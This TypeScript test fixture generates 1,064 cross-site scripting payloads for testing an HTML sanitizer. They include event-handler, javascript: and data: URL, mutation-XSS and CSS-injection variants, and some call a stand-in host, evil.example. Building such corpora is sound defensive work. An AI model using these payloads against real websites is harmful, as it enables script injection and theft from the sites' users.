/** Markup that browsers have run code of, for tests of whatever makes HTML harmless. */

/** What browsers have run in one way or another, put into each other: 1,064 texts. */
const CODE = [
  'alert(1)',
  '&#97;lert(1)',
  'alert`1`',
  '\u0061lert(1)',
  'fetch("//evil.example")',
  'top[/al/.source+/ert/.source](1)',
  'eval(name)',
  'location="javascript:alert(1)"',
];
const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  ' javascript:',
  '\u0001javascript:',
  'javascript&colon;',
  '&#106;avascript:',
  'vbscript:',
  'data:text/html,<script>',
  'data:image/svg+xml,<svg onload=',
  'view-source:javascript:',
  'blob:',
  'filesystem:',
  '//evil.example/',
  '\\\\evil.example/',
];
const FRAMES: ((code: string) => string)[] = [
  (code) => `<script>${code}</script>`,
  (code) => `<SCRIPT/x>${code}</SCRIPT>`,
  (code) => `<scr<script>ipt>${code}</scr</script>ipt>`,
  (code) => `<img src=x onerror=${code}>`,
  (code) => `<img src="x"onerror="${code}">`,
  (code) => `<img/src=x/onerror=${code}>`,
  (code) => `<svg onload=${code}>`,
  (code) => `<svg><animate onbegin=${code} attributeName=x dur=1s>`,
  (code) => `<svg><style><img src=x onerror=${code}></style></svg>`,
  (code) => `<math><mtext><table><mglyph><style><img src=x onerror=${code}>`,
  (code) => `<details open ontoggle=${code}>`,
  (code) => `<p style="animation-name:x" onanimationstart=${code}>글</p>`,
  (code) => `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  (code) => `<textarea><img title="</textarea><img src=x onerror=${code}>">`,
  (code) => `<!--><img src=x onerror=${code}>-->`,
  (code) => `<![CDATA[><img src=x onerror=${code}>]]>`,
  (code) => `<iframe srcdoc="<script>${code}</script>"></iframe>`,
  (code) => `<template><img src=x onerror=${code}></template>`,
  (code) => `<form><button formaction="javascript:${code}">글`,
  (code) => `<base href="javascript:${code}//"><a href="#">글</a>`,
  (code) => `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
  (code) => `<p style="width:expression(${code})">글</p>`,
  (code) => `<p style="border:url(javascript:${code})">글</p>`,
  (code) => `<p style="background:url('javascript:${code}')">글</p>`,
  (code) => `<a id=x name=x href=x onfocus=${code} autofocus>글</a>`,
  (code) => `<xmp><p title="</xmp><img src=x onerror=${code}>">`,
  (code) => `<p title="a" title='"><img src=x onerror=${code}>'>글</p>`,
  (code) => `<<img src=x onerror=${code}//<`,
];
const LINKS: ((address: string) => string)[] = [
  (address) => `<a href="${address}">글</a>`,
  (address) => `<img src="${address}">`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<embed src="${address}">`,
  (address) => `<svg><a xlink:href="${address}"><text>글</text></a></svg>`,
  (address) => `<img srcset="${address} 1x">`,
];
export const ATTACKS: readonly string[] = [
  ...FRAMES.flatMap((frame) => CODE.map(frame)),
  ...LINKS.flatMap((link) => SCHEMES.flatMap((scheme) => CODE.slice(0, 6).map((code) => link(`${scheme}${code}`)))),
  ...FRAMES.flatMap((frame) => CODE.slice(0, 6).map((code) => `<table><td>${frame(code)}<p>글`)),
];

/** Tags as they stand in cleaned HTML, where every `<` begins one and every value is quoted. */
export const TAG = /<\/?([a-z0-9]+)((?:\s+[\w:-]+(?:="[^"]*")?)*)\s*\/?>/gi;
